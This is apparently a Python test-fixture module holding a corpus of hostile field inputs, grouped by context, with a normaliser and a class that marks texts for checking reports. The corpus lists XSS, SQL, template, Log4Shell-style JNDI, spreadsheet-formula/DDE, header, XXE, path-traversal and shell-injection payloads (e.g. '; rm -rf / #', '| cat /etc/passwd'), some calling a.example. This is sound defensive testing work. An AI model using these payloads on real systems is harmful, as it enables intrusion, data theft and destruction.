"""What an attacker, a spreadsheet or a telephone may write into a field, and what is kept of it.

Each text is short enough for a one-line field. `kept` says anew, from the rule of the product and
not with its code, what must be read where `typed` was written.
"""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Iterator
from itertools import count

CORPUS: dict[str, tuple[str, ...]] = {
    "html": (
        "<script>alert(1)</script>",
        '"><script src=//a.example/x.js></script>',
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert&#40;1&#41;</script>",
        '" autofocus onfocus=alert(1) x="',
        "' onmouseover='alert(1)",
        "</textarea><script>alert(1)</script>",
        "</title><iframe src=javascript:alert(1)>",
        "</option></select><b onclick=alert(1)>x",
        "<a href=javascript:alert(1)>x</a>",
        "<base href=//a.example/>",
        "<meta http-equiv=refresh content=0;url=//a.example>",
        "<form action=//a.example><button>x",
        "<style>*{display:none}</style>",
        "<!-- x --!><script>alert(1)</script>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<math><mi xlink:href=data:x,<script>alert(1)</script>>",
        "<details open ontoggle=alert(1)>",
        "<template><s>x</s></template><noscript><p title='</noscript><img src=x>'>",
        "&lt;b&gt; &amp;amp; &#x3C;b&#x3E; &nbsp; &copy; &notin;",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//",
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
    ),
    "template": (
        "{{7*7}}",
        "{% raw %}{{ config }}{% endraw %}",
        "{{ self.__init__.__globals__ }}",
        "{#",
        "${7*7} #{7*7} <%= 7*7 %>",
        "%(name)s %(secret_key)s",
        "%s %d %n %x %%",
        "{0} {} {name} {0.__class__}",
        "100 % av {alla}",
        "$HOME $(id) ${jndi:ldap://a.example/x}",
    ),
    "sql": (
        "' OR 1=1--",
        "'; DROP TABLE action; --",
        '" OR ""="',
        "') UNION SELECT password_hash FROM user_account --",
        "1; SELECT pg_sleep(10)",
        "\\'; --",
        "%' ESCAPE '!' --",
        "100% _ [a-z] *",
        "Robert'); DROP TABLE students;--",
        "/**/AND/**/1=1",
    ),
    "formula": (
        "=1+1",
        '=HYPERLINK("http://a.example","x")',
        "=cmd|' /C calc'!A0",
        "+46 70 123 45 67",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM(A1)",
        "{=1+1}",
        "'=1+1",
        "=IMPORTXML(CONCAT(\"http://a.example/?\",A1),\"//a\")",
        '=DDE("cmd";"/C calc";"x")',
        "=WEBSERVICE(\"http://a.example\")",
        "#REF!",
        "#N/A",
        "1E5",
        "00123",
        "2026-13-45",
        "TRUE",
        "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    ),
    "csv": (
        'a;b;"c',
        'a,"b""c",d',
        '";=1+1;"',
        "a\tb\tc",
        "sep=;",
        '"',
        "a;b\nc;d",
    ),
    "header": (
        "Hej\r\nBcc: x@a.example",
        "Hej\nSubject: annat",
        "Hej\r\n\r\n<script>alert(1)</script>",
        "Hej%0d%0aSet-Cookie: a=b",
        "=?utf-8?b?QmNjOiB4QGEuZXhhbXBsZQ==?=",
        "=?iso-8859-1?q?=0D=0ABcc:_x@a.example?=",
        '"Chefen" <x@a.example>, y@a.example',
        "a@b.example\u2028Bcc: x@a.example",
        "Hej\u0085Bcc: x@a.example",
        "Re: (kommentar) ; filename=x.exe",
        "x\r\n.\r\nMAIL FROM:<x@a.example>",
    ),
    "calendar": (
        "Slut\r\nEND:VEVENT\r\nBEGIN:VALARM",
        "BEGIN:VCALENDAR",
        "SUMMARY;X=1:annat",
        "a\\nb\\;c\\,d\\\\e",
        "a;b,c:d\"e^n",
        "veckad rad\r\n med blank",
        "å" * 74 + ";slut",
        "\u6f22" * 26 + ",slut",
    ),
    "path": (
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/shadow",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "....//....//etc/passwd",
        "file:///etc/passwd",
        "\\\\a.example\\share",
        "C:\\x:y",
        "CON.txt",
        "a/b/../c",
        "x.php%00.txt",
        "//a.example/%2f..",
    ),
    "unicode": (
        "\u202eab\u202c vänd",
        "\u2066dold\u2069 \u2067dold\u2069",
        "no\u200bll\u200cbr\u200dedd",
        "\ufeffmed märke",
        "mjukt\u00adbinde\u2060streck",
        "e\u0301 A\u030a o\u0308",
        "Z\u0351\u036b\u0343a\u0309\u036a\u0302l\u0348\u034dg\u0321o\u0322",
        "\u0430dmin \u0440\u0430ypal",
        "\u2126 \u212b \ufb01 \u1e9e \u0131 \u0130",
        "\U0001d400\U0001d401 \U0001f600 \U00020000",
        "\u1100\u1161\u11a8 \ud55c\uad6d\uc5b4",
        "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
        "\u0e20\u0e32\u0e29\u0e32\u0e44\u0e17\u0e22 \u0939\u093f\u0928\u094d\u0926\u0940",
        "\u6f22\u5b57\u304b\u306a",
        "\U0001f468\u200d\U0001f469\u200d\U0001f467 familj",
        "\U0001f1f8\U0001f1ea 1\ufe0f\u20e3 \u2764\ufe0f \U0001f44d\U0001f3fd",
        "\ue000 privat \U000f0000",
        "a\u00a0b\u2003c\u3000d\u2009e",
        "tre\u2028fyra\u2029fem",
        "\u0341\u0344 \u0958",
        "\u2024\u2025\u2026 \uff0e\uff0f",
        "I\u0307stanbul \u00df SS",
    ),
    "control": (
        "a\x00b",
        "\x00",
        "ring\x07 bak\x08 fram",
        "\x1b[31mrött\x1b[0m",
        "\x1b]0;titel\x07",
        "rad\x0bvt\x0cff",
        "fs\x1cgs\x1drs\x1eus\x1f",
        "del\x7f c1\x9b31m\x85",
        "\ufffe \uffff \ufdd0 \U0001ffff",
        "ersatt \ufffd \ufffc",
        "halv \\ud800 \\udfff skriven",
        "a\rb\nc\r\nd",
    ),
    "xml": (
        "]]>",
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
        "&e; &lol9; &#0; &#xFFFE;",
        "<w:p><w:r><w:t>x</w:t></w:r></w:p>",
        "<?xml version='1.0'?><a/>",
        "<xsl:value-of select='/'/>",
        "_x000D_ _x0000_ _x005F_",
        "{ HYPERLINK \"http://a.example\" } { PAGE }",
        "</w:t><w:fldSimple w:instr='DDEAUTO c:\\\\x'>",
    ),
    "json": (
        '{"a": 1, "__proto__": {"b": 2}}',
        '","admin":true,"x":"',
        "\\u003cscript\\u003e \\\\ \\n \\\"",
        "[1, null, NaN, Infinity]",
        "</script><!--",
        "null",
        "undefined",
        "0x1F",
        "true",
    ),
    "shell": (
        "; rm -rf / #",
        "$(touch /tmp/x) `id`",
        "| cat /etc/passwd",
        "&& shutdown -h now",
        "--help",
        "-rf",
        "~root *.* ?",
        "a > b < c >> d",
        "!! !$ ^a^b",
    ),
    "log": (
        "x\n2026-03-02 08:00 INFO inloggad som admin",
        "x\r\n127.0.0.1 - - \"GET / HTTP/1.1\" 200",
        "x\x1b[2K\x1b[1Glurad",
        "%(levelname)s %(asctime)s",
        '"} {"event": "login.ok"',
    ),
    "markdown": (
        "# Rubrik",
        "* punkt",
        "- [ ] ruta",
        "1. numrerad",
        "[länk](javascript:alert(1))",
        "![bild](http://a.example/x.png)",
        "**fet** _kursiv_ `kod` ~~struken~~",
        "| a | b |",
        "> citat",
        "---",
        "<http://a.example>",
        "[a]: http://a.example",
        "@olle.agare @alla #1",
        "```",
    ),
    "typst": (
        '#eval("1+1")',
        "#import \"/etc/passwd\"",
        "#let x = 1; #x",
        "$ x^2 $ \\ * _ ` @ref <label>",
        "#image(\"/etc/passwd\")",
        "] ) } ; #[ #( #{",
        "// kommentar /* mer",
        "\\u{202e} \\#",
        "~ -- --- ... -?",
        "= Rubrik",
        "/ Term: ord",
    ),
    "number": (
        "-1",
        "1e309",
        "99999999999999999999999",
        "0",
        "\u0661\u0662\u0663",
        "1.5",
        "1,5",
        "NaN",
        "\u00bd",
    ),
    "long": (
        "å" * 90,
        "x" * 100,
        "a b " * 25,
        "\u0301" * 60,
        "\U0001f600" * 60,
        "W" * 40 + "-" * 40,
    ),
    "blank": (
        "\u00a0",
        "\u2800",
        "\u3164",
        "\u200b\u200b\u200b",
        "\u180e",
        "\t \t",
    ),
}  # fmt: skip

EVERY = tuple(text for texts in CORPUS.values() for text in texts)
END = re.compile(r"k(\d{4})k")
_UNSEEN = frozenset({"Cf", "Cs", "Cc"})


def kept(typed: str) -> str:
    """What a one-line field keeps: NFC, single blanks, without what nobody sees or may store."""
    said = "".join(ch for ch in typed if ch.isspace() or not _unseen(ch))
    return " ".join(unicodedata.normalize("NFC", said).split())


def _unseen(ch: str) -> bool:
    never = 0xFDD0 <= ord(ch) <= 0xFDEF or ord(ch) & 0xFFFE == 0xFFFE
    return never or unicodedata.category(ch) in _UNSEEN


class Typed:
    """Texts of the corpus, each ended by a mark of its own: wherever the mark is read again, the
    whole text must stand before it."""

    def __init__(self) -> None:
        self.by_mark: dict[str, str] = {}
        self._marks = count(1000)
        self._next = count()

    def one(self) -> str:
        """The next text of the corpus, with its mark."""
        return self._marked(f"{EVERY[next(self._next) % len(EVERY)]} ")

    def address(self) -> str:
        """A link to somewhere else, of letters that an address may hold."""
        return self._marked('https://a.example/?q=<x>&y="1"&z=')

    def file_name(self) -> str:
        """The name of a file; the folders before it are not kept."""
        text = self.one()
        mark = END.findall(text)[-1]
        self.by_mark[f"k{mark}k"] = re.split(r"[/\\]", text)[-1].removesuffix(".txt")
        return f"{text}.txt"

    def _marked(self, said: str) -> str:
        mark = f"k{next(self._marks)}k"
        self.by_mark[mark] = f"{said}{mark}"
        return self.by_mark[mark]

    def many(self, number: int) -> str:
        """So many texts, each on lines of its own."""
        return "\n".join(self.one() for _ in range(number))

    def marred(self, read: str) -> Iterator[tuple[str, str]]:
        """Marks in what was read that the text kept of them does not precede, with what does."""
        folded = kept(read)
        for found in END.finditer(folded):
            wanted = kept(self.by_mark.get(found[0], found[0]))
            before = folded[: found.end()][-len(wanted) :]
            # A sentence of a report begins with a capital.
            if before[1:] != wanted[1:] or before[:1].lower() != wanted[:1].lower():
                yield wanted, before

    def read_in(self, read: str) -> set[str]:
        """The marks that stand in what was read."""
        return {found[0] for found in END.finditer(read)} & set(self.by_mark)
